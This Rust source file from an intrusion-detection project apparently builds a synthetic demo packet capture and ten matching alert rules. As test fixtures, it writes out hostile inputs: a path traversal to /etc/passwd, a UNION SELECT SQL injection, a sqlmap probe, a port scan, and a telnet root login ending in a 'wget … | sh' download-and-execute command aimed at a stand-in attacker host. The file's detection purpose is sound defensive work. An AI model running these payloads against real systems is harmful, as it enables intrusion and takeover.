//! A small, deterministic demo capture (benign traffic plus a handful of
//! attacks) and the rules that flag the attacks.
//!
//! Addresses: home net 10.0.0.0/24; everything else in the documentation
//! ranges 192.0.2.0/24 (attackers), 198.51.100.0/24 (DNS resolver) and
//! 203.0.113.0/24 (external web servers). Time starts at
//! 2024-01-15T10:00:00Z.

use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::path::Path;

use crate::packet::{PacketBuilder, ACK, RST, SYN};
use crate::pcap::{PcapWriter, Ts, LINKTYPE_ETHERNET};
use crate::session::{add_us, TcpSession, TimedFrame};

/// 2024-01-15T10:00:00Z.
pub const DEMO_START: i64 = 1_705_312_800;

/// The demo rules (also in `demo/demo.rules` at the repository root).
/// Each fires exactly once on [`demo_capture`]; none fires on its benign
/// traffic.
pub const DEMO_RULES: &str = r#"# Vigil demo rules: they match the attacks in the capture written by
# `vigil-craft-demo` and stay silent on its benign traffic.
alert tcp any any -> 10.0.0.0/24 80 (msg:"VIGIL DEMO WEB path traversal attempt for /etc/passwd"; flow:to_server,established; content:"GET "; depth:4; content:"../"; distance:0; content:"etc/passwd"; nocase; distance:0; flowbits:set,vigil.passwd_request; classtype:web-application-attack; sid:1000001; rev:1; metadata:attack_target Web_Server, created_at 2024_01_15, signature_severity Major;)
alert tcp 10.0.0.0/24 80 -> any any (msg:"VIGIL DEMO WEB /etc/passwd contents returned after traversal request"; flow:to_client,established; flowbits:isset,vigil.passwd_request; content:"root|3a|x|3a|0|3a|0|3a|"; classtype:successful-recon-limited; sid:1000002; rev:1; metadata:attack_target Web_Server, created_at 2024_01_15, signature_severity Critical;)
alert tcp any any -> 10.0.0.0/24 80 (msg:"VIGIL DEMO WEB SQL injection UNION SELECT in URI"; flow:to_server,established; content:"GET "; depth:4; content:"UNION"; nocase; distance:0; content:"SELECT"; nocase; distance:0; within:12; pcre:"/UNION(\s|%20|\+)+SELECT/i"; classtype:web-application-attack; sid:1000003; rev:1; metadata:attack_target Web_Server, created_at 2024_01_15, signature_severity Major;)
alert tcp any any -> 10.0.0.0/24 any (msg:"VIGIL DEMO WEB sqlmap User-Agent"; flow:to_server,established; content:"User-Agent|3a| sqlmap"; nocase; classtype:attempted-recon; sid:1000004; rev:1; metadata:attack_target Web_Server, created_at 2024_01_15, signature_severity Minor;)
alert tcp any any -> 10.0.0.0/24 any (msg:"VIGIL DEMO SCAN possible TCP SYN port scan"; flags:S,12; threshold:type both, track by_src, count 10, seconds 60; classtype:attempted-recon; sid:1000005; rev:1; metadata:created_at 2024_01_15, signature_severity Minor;)
alert icmp any any -> 10.0.0.0/24 any (msg:"VIGIL DEMO ICMP large echo request"; itype:8; dsize:>1000; classtype:bad-unknown; sid:1000006; rev:1; metadata:created_at 2024_01_15, signature_severity Minor;)
alert udp 10.0.0.0/24 any -> any 53 (msg:"VIGIL DEMO DNS query for known-bad domain badactor-c2.test"; content:"|01 00 00 01 00 00 00 00 00 00|"; offset:2; depth:10; content:"|0b|badactor-c2|04|test|00|"; nocase; distance:0; classtype:trojan-activity; sid:1000007; rev:1; metadata:created_at 2024_01_15, signature_severity Major;)
alert tcp 10.0.0.0/24 23 -> any any (msg:"VIGIL DEMO ATTACK-RESPONSE id check returned root in telnet session"; flow:to_client,established; content:"uid=0|28|root|29|"; classtype:bad-unknown; sid:1000008; rev:1; metadata:created_at 2024_01_15, signature_severity Critical;)
alert tcp any any -> 10.0.0.0/24 23 (msg:"VIGIL DEMO ATTACK command injection download-and-execute over telnet"; flow:to_server,established; content:"wget "; content:"|7c| sh"; distance:0; within:80; classtype:trojan-activity; sid:1000009; rev:1; metadata:created_at 2024_01_15, signature_severity Critical;)
alert tcp any any -> 10.0.0.0/24 23 (msg:"VIGIL DEMO POLICY telnet login attempt as root"; flow:to_server,established; content:"root"; depth:4; dsize:<10; classtype:attempted-admin; sid:1000010; rev:1; metadata:created_at 2024_01_15, signature_severity Major;)
"#;

const ROUTER_MAC: [u8; 6] = [0x02, 0x00, 0x0a, 0x00, 0x00, 0x01];

const WS1: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 10);
const WS2: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 11);
const TELNET_HOST: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 23);
const WEB: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 80);
const ATTACKER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 66);
const PINGER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 77);
const SCANNER: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 99);
const RESOLVER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 53);
const EXAMPLE_COM: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 10);
const EXAMPLE_ORG: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 20);
const C2: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);

const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0";

/// Hosts of the home net have their own MAC; everything else is behind the
/// router.
fn mac(ip: Ipv4Addr) -> [u8; 6] {
    let o = ip.octets();
    if o[..3] == [10, 0, 0] {
        [0x02, 0x00, o[0], o[1], o[2], o[3]]
    } else {
        ROUTER_MAC
    }
}

fn builder(src: Ipv4Addr, dst: Ipv4Addr) -> PacketBuilder {
    PacketBuilder::default().macs(mac(src), mac(dst))
}

fn at(secs: u64, millis: u64) -> Ts {
    add_us((DEMO_START, 0), secs * 1_000_000 + millis * 1000)
}

fn tcp_session(
    client: (Ipv4Addr, u16),
    server: (Ipv4Addr, u16),
    start: Ts,
    isn: (u32, u32),
) -> TcpSession {
    let c = SocketAddr::new(IpAddr::V4(client.0), client.1);
    let s = SocketAddr::new(IpAddr::V4(server.0), server.1);
    TcpSession::new(c, s)
        .with_builder(builder(client.0, server.0).df(true).ip_id(0))
        .with_isn(isn.0, isn.1)
        .start_at(start)
        .with_step(800)
}

/// Encodes a DNS name as length-prefixed labels.
fn dns_name(out: &mut Vec<u8>, name: &str) {
    for label in name.split('.').filter(|l| !l.is_empty()) {
        out.push(label.len() as u8);
        out.extend_from_slice(label.as_bytes());
    }
    out.push(0);
}

/// A DNS query (RD set) for `name`, type `qtype` (1 = A), class IN.
pub fn dns_query(id: u16, name: &str, qtype: u16) -> Vec<u8> {
    let mut m = Vec::new();
    m.extend_from_slice(&id.to_be_bytes());
    m.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    dns_name(&mut m, name);
    m.extend_from_slice(&qtype.to_be_bytes());
    m.extend_from_slice(&[0, 1]);
    m
}

/// A DNS response to an A query for `name` with one answer per address.
pub fn dns_response_a(id: u16, name: &str, addrs: &[Ipv4Addr], ttl: u32) -> Vec<u8> {
    let mut m = Vec::new();
    m.extend_from_slice(&id.to_be_bytes());
    m.extend_from_slice(&[0x81, 0x80, 0, 1]);
    m.extend_from_slice(&(addrs.len() as u16).to_be_bytes());
    m.extend_from_slice(&[0, 0, 0, 0]);
    dns_name(&mut m, name);
    m.extend_from_slice(&[0, 1, 0, 1]);
    for a in addrs {
        m.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1]);
        m.extend_from_slice(&ttl.to_be_bytes());
        m.extend_from_slice(&[0, 4]);
        m.extend_from_slice(&a.octets());
    }
    m
}

/// An HTTP/1.1 GET request.
pub fn http_get(host: &str, path: &str, user_agent: &str) -> Vec<u8> {
    format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {user_agent}\r\n\
         Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\n\
         Connection: close\r\n\r\n"
    )
    .into_bytes()
}

/// An HTTP/1.1 response with a body.
pub fn http_response(status: &str, content_type: &str, body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "HTTP/1.1 {status}\r\nDate: Mon, 15 Jan 2024 10:00:00 GMT\r\nServer: nginx/1.24.0\r\n\
         Content-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    r.extend_from_slice(body);
    r
}

fn html_page(title: &str, paragraphs: usize) -> Vec<u8> {
    let mut s = format!("<!DOCTYPE html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><title>{title}</title></head>\n<body>\n<h1>{title}</h1>\n");
    for i in 0..paragraphs {
        s.push_str(&format!(
            "<p>Paragraph {i}: this domain is for use in illustrative examples in documents. \
             You may use it in literature without prior coordination or asking for permission.</p>\n"
        ));
    }
    s.push_str("</body>\n</html>\n");
    s.into_bytes()
}

struct Demo {
    frames: Vec<TimedFrame>,
    ip_id: u16,
}

impl Demo {
    fn next_id(&mut self) -> u16 {
        self.ip_id = self.ip_id.wrapping_add(7);
        self.ip_id
    }

    fn udp(&mut self, ts: Ts, src: (Ipv4Addr, u16), dst: (Ipv4Addr, u16), payload: &[u8]) {
        let id = self.next_id();
        let f = builder(src.0, dst.0)
            .ip_id(id)
            .ipv4_udp(src.0, src.1, dst.0, dst.1, payload);
        self.frames.push((ts, f));
    }

    fn dns(
        &mut self,
        ts: Ts,
        client: Ipv4Addr,
        sport: u16,
        txid: u16,
        name: &str,
        answer: &[Ipv4Addr],
    ) {
        self.udp(
            ts,
            (client, sport),
            (RESOLVER, 53),
            &dns_query(txid, name, 1),
        );
        let reply = dns_response_a(txid, name, answer, 300);
        self.udp(add_us(ts, 18_000), (RESOLVER, 53), (client, sport), &reply);
    }

    #[allow(clippy::too_many_arguments)]
    fn icmp(
        &mut self,
        ts: Ts,
        src: Ipv4Addr,
        dst: Ipv4Addr,
        ty: u8,
        id: u16,
        seq: u16,
        payload: &[u8],
    ) {
        let ipid = self.next_id();
        let f = builder(src, dst)
            .ip_id(ipid)
            .ipv4_icmp(src, dst, ty, 0, id, seq, payload);
        self.frames.push((ts, f));
    }

    fn ping(&mut self, ts: Ts, src: Ipv4Addr, dst: Ipv4Addr, id: u16, count: u16, size: usize) {
        let payload: Vec<u8> = (0..size).map(|i| (i % 256) as u8).collect();
        for seq in 1..=count {
            let t = add_us(ts, u64::from(seq - 1) * 1_000_000);
            self.icmp(t, src, dst, 8, id, seq, &payload);
            self.icmp(add_us(t, 12_500), dst, src, 0, id, seq, &payload);
        }
    }

    fn add(&mut self, s: TcpSession) {
        self.frames.extend(s.into_frames());
    }
}

/// Builds the demo capture: ~160 Ethernet frames with microsecond
/// timestamps, in time order. Deterministic.
pub fn demo_capture() -> Vec<TimedFrame> {
    let mut d = Demo {
        frames: Vec::new(),
        ip_id: 0x1c00,
    };

    // --- benign: workstation 1 resolves and browses www.example.com, pings it
    d.dns(
        at(0, 0),
        WS1,
        51_812,
        0x3a1f,
        "www.example.com",
        &[EXAMPLE_COM],
    );
    let mut s = tcp_session(
        (WS1, 49_152),
        (EXAMPLE_COM, 80),
        at(0, 40),
        (0x1f3a_2b00, 0x8e11_0000),
    );
    s.handshake()
        .client_send(&http_get("www.example.com", "/index.html", FIREFOX))
        .server_send(&http_response(
            "200 OK",
            "text/html; charset=utf-8",
            &html_page("Example Domain", 12),
        ))
        .close();
    d.add(s);
    d.ping(at(1, 0), WS1, EXAMPLE_COM, 0x0b1d, 4, 56);

    // --- benign: workstation 2 resolves and browses docs.example.org
    d.dns(
        at(2, 100),
        WS2,
        40_021,
        0x77c2,
        "docs.example.org",
        &[EXAMPLE_ORG],
    );
    let mut s = tcp_session(
        (WS2, 50_110),
        (EXAMPLE_ORG, 80),
        at(2, 150),
        (0x0a0b_0c0d, 0x5050_5050),
    );
    s.handshake()
        .client_send(&http_get(
            "docs.example.org",
            "/guide/getting-started.html?lang=en",
            FIREFOX,
        ))
        .server_send(&http_response(
            "200 OK",
            "text/html; charset=utf-8",
            &html_page("Getting started", 4),
        ))
        .close();
    d.add(s);

    // --- benign: workstation 1 checks the internal web server
    let mut s = tcp_session(
        (WS1, 49_160),
        (WEB, 80),
        at(3, 500),
        (0x2222_0000, 0x3333_0000),
    );
    s.handshake()
        .client_send(&http_get("intranet.home.example", "/status", FIREFOX))
        .server_send(&http_response("200 OK", "text/plain", b"all services up\n"))
        .close();
    d.add(s);

    // --- attack: path traversal to /etc/passwd, which the server returns
    let mut s = tcp_session(
        (ATTACKER, 41_337),
        (WEB, 80),
        at(5, 0),
        (0x6b2d_0001, 0x9c00_1000),
    );
    let passwd =
        b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
bin:x:2:2:bin:/bin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
    s.handshake()
        .client_send(&http_get("10.0.0.80", "/../../etc/passwd", "curl/8.5.0"))
        .server_send(&http_response("200 OK", "text/plain", passwd))
        .close();
    d.add(s);

    // --- attack: SQL injection in the URI
    let mut s = tcp_session(
        (ATTACKER, 41_338),
        (WEB, 80),
        at(8, 0),
        (0x6b2d_1001, 0x9c00_2000),
    );
    s.handshake()
        .client_send(&http_get(
            "10.0.0.80",
            "/products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
            FIREFOX,
        ))
        .server_send(&http_response(
            "200 OK",
            "text/html",
            b"<table><tr><td>admin</td><td>5f4dcc3b5aa765d61d8327deb882cf99</td></tr></table>\n",
        ))
        .close();
    d.add(s);

    // --- attack: sqlmap probing (suspicious User-Agent)
    let mut s = tcp_session(
        (ATTACKER, 41_339),
        (WEB, 80),
        at(10, 0),
        (0x6b2d_2001, 0x9c00_3000),
    );
    s.handshake()
        .client_send(&http_get(
            "10.0.0.80",
            "/products.php?id=1",
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
        ))
        .server_send(&http_response(
            "200 OK",
            "text/html",
            b"<table><tr><td>widget</td></tr></table>\n",
        ))
        .close();
    d.add(s);

    // --- attack: TCP SYN scan of 20 ports on the web server
    let ports = [
        21u16, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306, 3389,
        5900, 8080,
    ];
    let scan_b = builder(SCANNER, WEB).window(1024).mss(1460);
    for (i, &port) in ports.iter().enumerate() {
        let t = at(12, 5 * i as u64);
        let seq = 0x5ca0_0000u32.wrapping_add(i as u32 * 0x0101_0101);
        let syn = scan_b.clone().ip_id(0x9a00 + i as u16).ipv4_tcp(
            SCANNER,
            62_001,
            WEB,
            port,
            seq,
            0,
            SYN,
            &[],
        );
        d.frames.push((t, syn));
        let back = builder(WEB, SCANNER).df(true).ip_id(0);
        if matches!(port, 22 | 80 | 443) {
            let synack = back.mss(1460).ipv4_tcp(
                WEB,
                port,
                SCANNER,
                62_001,
                0x4000_0000 + u32::from(port),
                seq.wrapping_add(1),
                SYN | ACK,
                &[],
            );
            d.frames.push((add_us(t, 400), synack));
            let rst = scan_b
                .clone()
                .tcp_options(&[])
                .ip_id(0x9b00 + i as u16)
                .ipv4_tcp(SCANNER, 62_001, WEB, port, seq.wrapping_add(1), 0, RST, &[]);
            d.frames.push((add_us(t, 800), rst));
        } else {
            let rst = back.window(0).ipv4_tcp(
                WEB,
                port,
                SCANNER,
                62_001,
                0,
                seq.wrapping_add(1),
                RST | ACK,
                &[],
            );
            d.frames.push((add_us(t, 400), rst));
        }
    }

    // --- attack: oversized ICMP echo
    d.ping(at(14, 0), PINGER, WS1, 0x4141, 1, 1400);

    // --- attack: infected workstation 2 resolves a known-bad domain
    d.dns(
        at(16, 0),
        WS2,
        33_333,
        0xbad0,
        "update.badactor-c2.test",
        &[C2],
    );

    // --- attack: root telnet login, id check, download-and-execute
    let mut s = tcp_session(
        (ATTACKER, 41_400),
        (TELNET_HOST, 23),
        at(18, 0),
        (0x7e1e_0000, 0x1e7e_0000),
    );
    s.handshake()
        .server_send(b"\r\nUbuntu 22.04.3 LTS\r\nsrv-legacy login: ")
        .client_send(b"root\r\n")
        .server_send(b"Password: ")
        .client_send(b"toor\r\n")
        .server_send(b"Last login: Sun Jan 14 22:10:07 2024 from 10.0.0.10\r\nroot@srv-legacy:~# ")
        .client_send(b"id; uname -a\r\n")
        .server_send(
            b"uid=0(root) gid=0(root) groups=0(root)\r\n\
Linux srv-legacy 5.15.0-91-generic #101-Ubuntu SMP x86_64 GNU/Linux\r\nroot@srv-legacy:~# ",
        )
        .client_send(b"cd /tmp; wget http://203.0.113.66/x.sh -O- | sh\r\n")
        .server_send(b"root@srv-legacy:/tmp# ")
        .close();
    d.add(s);

    // --- benign: more lookups and a ping to the resolver
    d.dns(
        at(20, 0),
        WS1,
        51_900,
        0x3a20,
        "mail.example.net",
        &[Ipv4Addr::new(203, 0, 113, 25)],
    );
    d.dns(
        at(20, 300),
        WS2,
        40_100,
        0x77c3,
        "www.example.org",
        &[EXAMPLE_ORG],
    );
    d.ping(at(21, 0), WS2, RESOLVER, 0x0c2e, 3, 56);

    d.frames.sort_by_key(|(ts, _)| *ts);
    d.frames
}

/// The demo capture as a classic (microsecond, Ethernet) pcap.
pub fn write_demo<W: Write>(w: W) -> io::Result<usize> {
    let frames = demo_capture();
    let mut pw = PcapWriter::new(w, LINKTYPE_ETHERNET)?;
    for (ts, f) in &frames {
        pw.write_packet(*ts, f)?;
    }
    pw.flush()?;
    Ok(frames.len())
}

/// Writes the demo pcap to `path`; returns the number of packets.
pub fn write_demo_pcap(path: &Path) -> io::Result<usize> {
    let mut w = BufWriter::new(File::create(path)?);
    let n = write_demo(&mut w)?;
    w.flush()?;
    Ok(n)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn contains(hay: &[u8], needle: &[u8]) -> bool {
        hay.windows(needle.len()).any(|w| w == needle)
    }

    #[test]
    fn deterministic_and_sized() {
        let mut a = Vec::new();
        let mut b = Vec::new();
        let n = write_demo(&mut a).unwrap();
        write_demo(&mut b).unwrap();
        assert_eq!(a, b);
        assert!((100..=300).contains(&n), "{n} packets");
        let frames = demo_capture();
        assert_eq!(frames[0].0, (DEMO_START, 0));
        assert!(frames.windows(2).all(|w| w[0].0 <= w[1].0));
    }

    #[test]
    fn attacks_are_present() {
        let frames = demo_capture();
        let count = |needle: &[u8]| frames.iter().filter(|(_, f)| contains(f, needle)).count();
        assert_eq!(count(b"GET /../../etc/passwd"), 1);
        assert_eq!(count(b"root:x:0:0:"), 1);
        assert_eq!(count(b"UNION%20SELECT"), 1);
        assert_eq!(count(b"User-Agent: sqlmap/"), 1);
        assert_eq!(count(b"uid=0(root)"), 1);
        assert_eq!(count(b"| sh\r\n"), 1);
        assert_eq!(count(b"\x0bbadactor-c2\x04test\x00"), 2);
        let big_echo = frames
            .iter()
            .filter(|(_, f)| f[23] == 1 && f[34] == 8 && f.len() > 1000)
            .count();
        assert_eq!(big_echo, 1);
        let syns_from_scanner = frames
            .iter()
            .filter(|(_, f)| f[23] == 6 && f[26..30] == SCANNER.octets() && f[47] == SYN)
            .count();
        assert_eq!(syns_from_scanner, 20);
    }

    #[test]
    fn rules_file_matches_const() {
        let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../demo/demo.rules");
        let file = std::fs::read_to_string(path).expect("demo/demo.rules");
        assert_eq!(file, DEMO_RULES);
    }

    #[test]
    fn rules_are_well_formed() {
        let rules: Vec<&str> = DEMO_RULES
            .lines()
            .filter(|l| l.starts_with("alert "))
            .collect();
        assert_eq!(rules.len(), 10);
        for (i, r) in rules.iter().enumerate() {
            assert!(r.contains(&format!("sid:{};", 1_000_001 + i)), "{r}");
            for kw in ["msg:\"VIGIL DEMO ", "classtype:", "rev:1;", "metadata:"] {
                assert!(r.contains(kw), "{kw} missing in {r}");
            }
            assert!(r.ends_with(";)"), "{r}");
        }
    }
}
